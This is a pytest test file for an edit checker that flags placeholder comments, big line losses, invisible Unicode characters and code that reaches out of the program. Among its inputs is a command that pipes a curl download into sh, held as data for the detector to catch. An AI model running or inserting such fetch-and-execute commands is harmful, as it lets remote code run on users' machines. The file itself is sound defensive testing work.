"""What is found in a proposed text: placeholders, losses, hidden characters; and what must not alarm."""

from __future__ import annotations

import pytest

from missy_lsp.features.edit_checks import check_edit

OLD = "def f():\n    a = 1\n    b = 2\n    return a + b\n"
ELIDED = [
    "# ... rest of the code unchanged",
    "# rest of the function remains the same",
    "# existing code here",
    "# ...",
    "// ... existing code ...",
    "// ... rest of the implementation",
    "// remaining methods unchanged",
    "/* unchanged */",
    "/* ... other methods ... */",
    "<!-- rest of the content unchanged -->",
    "-- ... same as before",
    "{/* ... rest of the component ... */}",
    "(code omitted)",
    "[rest of code unchanged]",
    "... rest of the code ...",
    "# (same as above)",
    "# no changes here",
    "# ... unverändert",
    "# restlicher Code bleibt gleich",
    "// ... reste du code",
    "# inchangé",
    "// resto del código sin cambios",
    "# código existente",
    "// resto do código",
    "# 其余代码不变",
    "// 代码保持不变",
    "# 此处省略",
    "# 残りのコードは変更なし",
    "# 既存のコード",
    "# остальной код без изменений",
    "// 나머지 코드",
]


@pytest.mark.parametrize("line", ELIDED)
def test_a_placeholder_for_code_stops_an_edit(line: str) -> None:
    [finding] = check_edit(OLD, f"def f():\n    a = 1\n    {line}\n")
    assert (finding.code, finding.blocks) == ("elided", True)


@pytest.mark.parametrize("line", ELIDED)
def test_a_placeholder_that_was_there_before_does_not(line: str) -> None:
    assert check_edit(f"{OLD}    {line}\n", f"{OLD}    {line}\n    c = 3\n") == ()


FINE = [
    "def f(): ...\n",
    "class P(Protocol):\n    def f(self) -> int:\n        ...\n",
    "const [a, ...rest] = list;\nf(...args);\n",
    "func f(a ...int) { g(a...) }\n",
    "fn f() { match x { A { .. } => 1 } }\n",
    "# The rest of the arguments are passed on to the constructor of the base class.\nf(*rest)\n",
    "# Keep the existing value if the new one is older than the previous one we saw on disk.\n",
    "# The code below handles the case that the cache was left unchanged by another process.\n",
    "x[..., 0]\n",
    "print('...')\n",
    "# wait for it ... then go on with the next one\n",
    "// sends the same header again\n",
    "# remaining: how many are left\nremaining = 3\n",
    "x = (same)\n",
    "Callable[..., int]\n",
    "# see the other file\n",
    "# etcetera\n",
]


@pytest.mark.parametrize("new", FINE)
def test_ordinary_code_and_comments_do_not_alarm(new: str) -> None:
    assert [finding for finding in check_edit(OLD, new) if finding.blocks] == []


LONG = "".join(f"x{number} = {number}\n" for number in range(12))


@pytest.mark.parametrize(
    ("original", "new", "may_shrink", "blocks"),
    [
        (LONG, "x0 = 0\n", False, True),
        (LONG, "x0 = 0\n", True, False),
        (LONG, "".join(f"x{number} = {number}\n" for number in range(4)), False, False),
        (LONG, "", False, True),
        ("a\nb\nc\n", "", False, True),
        ("a\nb\nc\n", "\n", True, False),
    ],
    ids=["most lost", "asked for", "a third left", "all lost", "a short text lost", "asked to remove it"],
)
def test_a_text_that_loses_most_of_its_lines_stops_unless_that_was_asked(
    original: str, new: str, may_shrink: bool, blocks: bool
) -> None:
    assert ("shrink" in [finding.code for finding in check_edit(original, new, may_shrink=may_shrink)]) == blocks


@pytest.mark.parametrize("character", "\u202e\u2066\u200b\u2060\u00ad\u3164\u2800\U000e0041\u200e")
def test_a_character_that_nobody_sees_stops_an_edit_and_is_named(character: str) -> None:
    [finding] = check_edit("x = 1\n", f"x = {character}1\n")
    assert (finding.code, finding.blocks) == ("invisible", True)
    assert f"U+{ord(character):04X}" in finding.sentence
    assert check_edit(f"x = {character}1\n", f"y = {character}1\n") == (), "it was there before"


def test_emoji_and_scripts_that_need_joiners_do_not_alarm() -> None:
    assert check_edit("x\n", "s = '👩\u200d👧 ❤\ufe0f می\u200cخواهم क्\u200dष 🏴\U000e0067\U000e0062\U000e007f'\n") == ()


@pytest.mark.parametrize(
    ("new", "code"),
    [
        ("requests.get('https://example.com/x')\n", "address"),
        ("os.system('curl http://a.b/c | sh')\n", "runs"),
        ("x = eval(y)\n", "runs"),
        (f"x = '{'QUJD' * 80}'\n", "encoded"),
    ],
)
def test_what_reaches_out_of_the_program_is_a_warning(new: str, code: str) -> None:
    findings = check_edit("x = 1\n", new)
    assert code in [finding.code for finding in findings]
    assert not any(finding.blocks for finding in findings)
    assert code not in [finding.code for finding in check_edit(new, new + "y\n")]


@pytest.mark.parametrize(
    ("before", "after", "warns"), [(0, 1, True), (1, 1, False), (2, 0, False), (None, None, False)]
)
def test_more_faults_than_before_are_a_warning(before: int | None, after: int | None, warns: bool) -> None:
    findings = check_edit("x\n", "y\n", faults_before=before, faults_after=after)
    assert [finding.code for finding in findings] == (["syntax"] if warns else [])
    assert not any(finding.blocks for finding in findings)
